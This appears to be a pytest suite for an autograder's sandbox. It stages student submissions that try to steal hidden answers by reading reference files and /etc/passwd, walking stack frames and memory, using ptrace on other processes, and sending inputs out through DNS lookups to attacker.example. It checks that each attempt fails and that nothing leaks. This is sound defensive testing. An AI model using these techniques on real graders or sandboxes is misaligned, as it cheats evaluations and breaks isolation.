"""1 to 22: stealing the answer. A theft that finds something returns the right value."""

from __future__ import annotations

import json
import tempfile
from pathlib import Path

import pytest
from staging import COURSE, HERE, HIDDEN, SHOWN, Attack, Stage, hand_in

from grader.report import FORMATS, find_renderer

pytestmark = pytest.mark.sandbox

REFERENCE = COURSE / "reference" / "attacked" / "doubling.py"
PROBLEM = COURSE / "problems" / "attacked" / "doubling.yaml"
CACHE = Path.home() / ".cache"

SEARCH = '''
def search(things):
    """Whether the answer or a canary is in any of them, as text."""
    for thing in things:
        try:
            text = thing if isinstance(thing, str) else repr(thing)[:100000]
        except BaseException:
            continue
        if "-".join(["CANARY", ""]) in text:
            return True
    return False

def attempt(action):
    try:
        return action()
    except BaseException as refused:
        return None
'''

ATTACKS = [
    Attack(
        number="001",
        name="read the reference and the problem from disk",
        head=SEARCH,
        body=f"""
paths = {[str(REFERENCE), str(PROBLEM), str(HERE / "staging.py"), str(CACHE)]!r}
paths += ["../reference", "/course", "/grader", "/work", "/home", "/root/.cache", "/etc/passwd"]
found = [attempt(lambda: open(path).read() if os.path.isfile(path) else os.listdir(path))
         for path in paths]
return 2 * x if any(found) else "nothing"
""",
    ),
    Attack(
        number="002",
        name="walk the frames for the expected value",
        head=SEARCH,
        body="""
frame, seen = sys._getframe(1), []
while frame:
    seen += [frame.f_locals, frame.f_globals]
    frame = frame.f_back
names = [name for scope in seen for name in scope]
hit = search(seen) or any(str(2 * x) in repr(scope)[:100000] for scope in seen)
return 2 * x if hit or "expected" in names else "nothing"
""",
    ),
    Attack(
        number="003",
        name="search the garbage collector",
        head=SEARCH,
        body="""
gc.unfreeze()
objects = gc.get_objects()
hit = any(isinstance(each, dict) and ("tolerance" in each or "expect" in each)
          and search([each]) for each in objects)
hit = hit or search(each for each in objects if isinstance(each, (dict, list, tuple)))
return 2 * x if hit else "nothing"
""",
    ),
    Attack(
        number="004",
        name="ask for the source of the reference module",
        head=SEARCH,
        body="""
import importlib, inspect
names = ["reference", "doubling", "grader.expected", "grader.grading", "problems", "staging"]
modules = [attempt(lambda: importlib.import_module(name)) for name in names]
modules += list(sys.modules.values())
hit = search(attempt(lambda: inspect.getsource(module)) or "" for module in modules if module)
return 2 * x if hit else "nothing"
""",
    ),
    Attack(
        number="005",
        name="climb the traceback of a provoked exception",
        head=SEARCH,
        body="""
try:
    1 / 0
except ZeroDivisionError as error:
    frame, seen = error.__traceback__.tb_frame, []
    while frame:
        seen += [frame.f_locals, frame.f_builtins, frame.f_code.co_consts]
        frame = frame.f_back
return 2 * x if search(seen) else "nothing"
""",
    ),
    Attack(
        number="006",
        name="read its own proc files",
        head=SEARCH,
        body="""
names = ["mem", "maps", "environ", "cmdline", "fd", "status", "root", "cwd", "task", "mountinfo"]
found = [attempt(lambda: os.listdir(p) if os.path.isdir(p) else open(p, "rb").read(100))
         for p in [f"/proc/{who}/{name}" for who in ("self", "1", "2") for name in names]]
listed = attempt(lambda: os.listdir("/proc"))
return 2 * x if any(found) or listed not in (None, ["cpuinfo"]) else "nothing"
""",
    ),
    Attack(
        number="007",
        name="read another process",
        head=SEARCH,
        body="""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)
vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
statuses = [
    libc.ptrace(16, 1, 0, 0), libc.ptrace(0, 0, 0, 0),
    libc.process_vm_readv(1, vector, 1, vector, 1, 0),
    libc.syscall(434, 1, 0), libc.syscall(438, 3, 0, 0), libc.syscall(440, 1, 0, 0, 0, 0),
]
opened = [attempt(lambda: open(f"/proc/{pid}/mem", "rb")) for pid in (1, os.getppid())]
return 2 * x if any(status >= 0 for status in statuses) or any(opened) else "nothing"
""",
    ),
    Attack(
        number="008",
        name="use inherited descriptors",
        head=SEARCH,
        body="""
def is_open(number):
    return attempt(lambda: os.fstat(number)) is not None
found = [number for number in range(4, 4096) if is_open(number)]
found += [number for number in (1, 2, 3) if attempt(lambda: os.read(number, 1))]
found += [1] if os.read(0, 1) else []
return 2 * x if found else "nothing"
""",
    ),
    Attack(
        number="009",
        name="look for tokens in the environment",
        head=SEARCH,
        body="""
import ctypes
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
raw, index = [], 0
while environ[index]:
    raw.append(environ[index].decode("utf-8", "replace"))
    index += 1
return 2 * x if search([dict(os.environ), raw]) else "nothing"
""",
    ),
    Attack(
        number="010",
        name="read the command line",
        head=SEARCH,
        body="""
words = " ".join([*sys.argv, *sys.orig_argv, *sys.path, str(sys.flags), os.getcwd()])
hit = "attacked" in words or "course" in words or "submit" in words
return 2 * x if hit or search([words]) else "nothing"
""",
    ),
    Attack(
        number="011",
        name="search fresh memory for what a reference left",
        head=SEARCH,
        body="""
import ctypes
libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
blocks = [libc.malloc(size) for size in (64, 1 << 10, 1 << 16, 1 << 20, 1 << 22)]
sizes = (64, 1 << 10, 1 << 16, 1 << 20, 1 << 22)
needle = "-".join(["CANARY", "REF"])
hit = any(needle.encode() in ctypes.string_at(b, s) for b, s in zip(blocks, sizes))
return 2 * x if hit else "nothing"
""",
    ),
    Attack(
        number="012",
        name="look for an installed solution or a cache",
        head=SEARCH,
        body="""
folders = [*sys.path, "/", "/root", "/home", "/usr/local", "/usr/src", "/opt", "/var", "/srv",
           os.path.expanduser("~/.cache/pip"), sys.prefix, sys.base_prefix]
names = [name for folder in folders for name in attempt(lambda: os.listdir(folder)) or []]
wanted = {"reference", "problems", "solutions", "doubling.py", "fairmark", "submissions", ".cache"}
return 2 * x if wanted & set(names) else "nothing"
""",
    ),
    Attack(
        number="014",
        name="fetch the solution",
        head=SEARCH,
        body="""
import socket, urllib.request
found = [
    attempt(lambda: urllib.request.urlopen("http://127.0.0.1:80/", timeout=1)),
    attempt(lambda: socket.create_connection(("127.0.0.1", 22), timeout=1)),
    attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM)),
    attempt(lambda: socket.socket(socket.AF_UNIX)), attempt(socket.socketpair),
    attempt(lambda: socket.socket(16, socket.SOCK_RAW)),
]
return 2 * x if any(found) else "nothing"
""",
    ),
    Attack(
        number="015",
        name="send inputs out by name look-ups",
        head=SEARCH,
        body="""
import socket
found = [
    attempt(lambda: socket.getaddrinfo(f"x{x}.attacker.example", 80)),
    attempt(lambda: socket.gethostbyname(f"x{x}.attacker.example")),
    attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)),
    attempt(lambda: open("/dev/tcp/127.0.0.1/80")),
]
return 2 * x if any(found) else "nothing"
""",
    ),
    Attack(
        number="018",
        name="leave something for the next call",
        head=SEARCH,
        body="""
folders = ["/box", "/tmp", "/dev", "/dev/shm", "/", "/sandbox", "/sandbox/child", "/usr/lib",
           "/proc", "/etc", "/var/tmp", sys.prefix, *sys.path]
left = [name for folder in folders for name in attempt(lambda: os.listdir(folder)) or []
        if "left-behind" in name]
for folder in folders:
    attempt(lambda: open(f"{folder}/left-behind", "w").write("x"))
return 2 * x if left else "nothing"
""",
    ),
    Attack(
        number="019",
        name="remember earlier calls",
        head=SEARCH + "\nimport builtins\nSEEN = []",
        body="""
seen = getattr(builtins, "seen", 0) + len(SEEN) + getattr(double, "seen", 0)
seen += "remembered" in sys.modules
SEEN.append(x); builtins.seen = 1; double.seen = 1; sys.modules["remembered"] = sys
os.environ["SEEN"] = "1"
return 2 * x if seen else "nothing"
""",
    ),
    Attack(
        number="022",
        name="read other submissions",
        head=SEARCH,
        body=f"""
roots = {[str(HERE), str(HERE.parents[1] / "submissions"), str(Path.cwd())]!r}
found = [attempt(lambda: os.listdir(root)) for root in [*roots, "/submissions", "/box/.."]]
names = [name for listing in found for name in listing or []]
return 2 * x if "hw1" in names or "conftest.py" in names else "nothing"
""",
    ),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.id)
def test_a_theft_finds_nothing(stage: Stage, attack: Attack) -> None:
    check = stage.perform(attack)

    # The attack ran to its end: it was neither broken itself nor stopped for another reason.
    assert (check.verdict, "'nothing'" in check.feedback) == ("wrong", True), check


LEAKS = {
    "in what it prints": "print(x); print(x, file=sys.stderr); return 0",
    "in a message": "raise ValueError(f'x={x}')",
    "in the name of an exception": "raise type(f'X{x}', (Exception,), {})()",
    "in an exit": "sys.exit(str(x))",
    "in the value": "return [x, str(x)]",
    "in the type of the value": "return type(f'X{x}', (), {})()",
    "in a missing function": "raise NotImplementedError(x)",
    "in a line number": "exec(compile('\\n' * (x % 100000) + '1 / 0', '<hw>', 'exec'))",
    "in a function name": "exec(f'def f{x}(): 1/0\\nf{x}()', {})",
    "in a forged frame": (
        "os.write(3, b'E' + json.dumps({'type': 'V', 'message': str(x), 'memory': False,"
        " 'frames': [[f'm{x}', x, f'f{x}']]}).encode()); os._exit(0)"
    ),
    "in a warning": "import warnings; warnings.warn(str(x)); return 0",
    "in a note": "e = ValueError(); e.add_note(str(x)); raise e",
    "in a key": "return {x: x}",
    "in the time taken": f"time.sleep((x == {HIDDEN}) * 0.3); return 0",
}


@pytest.mark.parametrize("way", LEAKS)
def test_016_hidden_inputs_do_not_come_out(stage: Stage, way: str) -> None:
    body = f"if x == {SHOWN}: return 2 * x\n{LEAKS[way]}"
    attack = Attack(number="016", name=way, body=body)

    report = stage.grade(hand_in(attack.text))

    assert report.score == 0
    for name in FORMATS:
        text = find_renderer(name)(report)
        for secret in (HIDDEN, 2 * HIDDEN, HIDDEN % 100000 + 1):
            assert str(secret) not in text, (name, text)
        assert "CANARY" not in text
    stage.require_honest()


def test_017_a_hidden_check_tells_neither_time_nor_memory(stage: Stage) -> None:
    text = Attack(number="017", name="", body="time.sleep(x % 10 / 50); return 2 * x").text

    checks = stage.grade(hand_in(text)).parts[0].checks

    hidden = next(check for check in checks if check.hidden)
    assert (hidden.elapsed_ms, hidden.memory_mib, hidden.output, hidden.location) == (
        None, None, "", "",
    )  # fmt: skip


def test_020_knowing_the_shown_output_earns_nothing(stage: Stage) -> None:
    report = stage.grade(hand_in(f"def double(x):\n    return {{{SHOWN}: {2 * SHOWN}}}.get(x)\n"))

    assert [check.verdict for check in report.parts[0].checks] == ["passed", "wrong"]
    assert report.score == 0
    stage.require_honest()


PREDICT = """
import random
import numpy as np

def twice(x):
    states = [np.random.get_state()[1][0], random.getstate()[1][0], *range(200)]
    for state in states:
        guess = np.random.default_rng(int(state)).standard_normal(x.shape)
        other = np.random.RandomState(int(state) % 2**32).standard_normal(x.shape)
        for drawn in (guess, other, np.random.standard_normal(x.shape)):
            if np.allclose(drawn, x):
                return 2 * x
    return "nothing"
"""


def test_021_the_seed_inside_does_not_foretell_the_inputs(stage: Stage) -> None:
    report = stage.grade(hand_in(PREDICT), "arrays", "staff")

    assert [check.verdict for check in report.parts[0].checks] == ["wrong", "wrong"]
    assert "'nothing'" in report.parts[0].checks[1].feedback


def test_no_canary_is_in_any_form_of_an_honest_report(stage: Stage) -> None:
    report = stage.grade(hand_in("def double(x):\n    return 3 * x\n"))

    for name in FORMATS:
        assert "CANARY" not in find_renderer(name)(report)
        assert str(HIDDEN) not in find_renderer(name)(report)
    assert str(2 * SHOWN) in json.dumps(report.model_dump(mode="json"))


def test_a_forged_cache_file_is_not_believed(stage: Stage) -> None:
    """Whoever could write to the cache would decide what is right: a wrong digest is not read."""
    from grader.expected import ExpectedValues

    with tempfile.TemporaryDirectory() as folder:
        memory = ExpectedValues(Path(folder))
        memory.remember("ab" * 32, 42)
        path = next(each for each in Path(folder).rglob("*") if each.is_file())
        path.write_bytes(path.read_bytes()[:-1] + b" ")

        assert ExpectedValues(Path(folder)).find("ab" * 32) == (False, None)
